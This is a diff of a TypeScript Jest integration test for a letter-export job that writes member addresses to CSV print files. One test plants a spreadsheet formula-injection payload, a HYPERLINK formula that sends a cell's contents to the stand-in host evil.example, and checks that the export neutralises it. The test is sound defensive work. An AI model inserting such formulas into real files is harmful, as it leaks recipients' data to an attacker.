@@ -1,7 +1,7 @@
 import { mkdtemp, readdir, readFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { beforeAll, describe, expect, it } from '@jest/globals';
+import { beforeEach, describe, expect, it } from '@jest/globals';
 import { DynamoLetterStore } from '../../lambdas/adapters/dynamo/letter-store.ts';
 import { DynamoMemberRepository } from '../../lambdas/adapters/dynamo/member-repository.ts';
 import type { Table } from '../../lambdas/adapters/dynamo/table.ts';
@@ -15,11 +15,13 @@ import { nirLookupKey } from '../../lambdas/domain/nir.ts';
 import type { SecurityEvents } from '../../lambdas/domain/ports.ts';
 import { newId } from '../../lambdas/domain/random-secrets.ts';
 import { importMemberRecord } from '../../lambdas/ops/member-row.ts';
+import { memberRow } from '../support/member-rows.ts';
 import { uniqueNir } from '../support/members.ts';
 import { prepareTestEnvironment } from '../support/test-environment.ts';
 
 let table: Table;
-beforeAll(async () => {
+// A table per test: each sees only its own letters, and runs alone.
+beforeEach(async () => {
   ({ table } = await prepareTestEnvironment());
 });
 
@@ -54,19 +56,7 @@ async function membersWithLetters(count: number) {
   for (let i = 0; i < count; i++) {
     const nir = uniqueNir();
     await importMemberRecord(
-      {
-        nir,
-        lastName: `Nom${i}`,
-        firstName: 'Prénom',
-        email: '',
-        addressLine1: `${i} rue, "bis"`,
-        addressLine2: '',
-        postalCode: '75001',
-        city: 'Paris',
-        country: 'FR',
-        clientId: '',
-        initialCode: '469135',
-      },
+      memberRow({ nir, lastName: `Nom${i}`, firstName: 'Prénom', email: '', addressLine1: `${i} rue, "bis"` }),
       { members, nirHasher, codeHasher, clock, initialCodeValidDays: 365 },
     );
     const key = await nirLookupKey(nirHasher, nir);
@@ -107,7 +97,7 @@ describe('letter export against DynamoDB Local', () => {
     const dir = await mkdtemp(join(tmpdir(), 'letters-'));
     const { members, keys } = await membersWithLetters(3);
     const first = await exporter(dir).run();
-    expect(first.exported).toBeGreaterThanOrEqual(3);
+    expect(first.exported).toBe(3);
     const second = await exporter(dir).run();
     expect(second).toEqual({ files: [], exported: 0, cancelled: 0 });
     expect((await readdir(dir)).filter((f) => f.endsWith('.csv'))).toHaveLength(1);
@@ -136,8 +126,6 @@ describe('letter export against DynamoDB Local', () => {
     'a crash %s, then a re-run: every letter exported exactly once, every working code in a file',
     async (_when, where, method, after) => {
       const dir = await mkdtemp(join(tmpdir(), 'letters-'));
-      // Letters of earlier tests may still be queued in this table: export them first.
-      await exporter(await mkdtemp(join(tmpdir(), 'letters-before-'))).run();
       const { members, keys } = await membersWithLetters(4);
 
       const store = new DynamoLetterStore(table);
@@ -167,7 +155,6 @@ describe('letter export against DynamoDB Local', () => {
 
   it('a formula in a name or an address (imported before the rule) reaches the print file neutralised', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'letters-formula-'));
-    await exporter(await mkdtemp(join(tmpdir(), 'letters-before-'))).run();
     const members = new DynamoMemberRepository(table);
     const key = newId();
     const formula = '=HYPERLINK("https://evil.example/?x="&I2,"Cliquez")';
@@ -189,7 +176,9 @@ describe('letter export against DynamoDB Local', () => {
       'r',
     );
     await exporter(dir).run();
-    const [row] = (await exportedRows(dir)).filter((r) => r[1]!.includes('HYPERLINK'));
+    const rows = await exportedRows(dir);
+    expect(rows).toHaveLength(1);
+    const [row] = rows;
     expect(row!.slice(1, 5)).toEqual([`"'${formula.replace(/"/g, '""')}"`, "'@SUM(1)", "'+33 rue", "'-"]);
     // No field of the file starts with what a spreadsheet reads as a formula.
     for (const field of row!) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
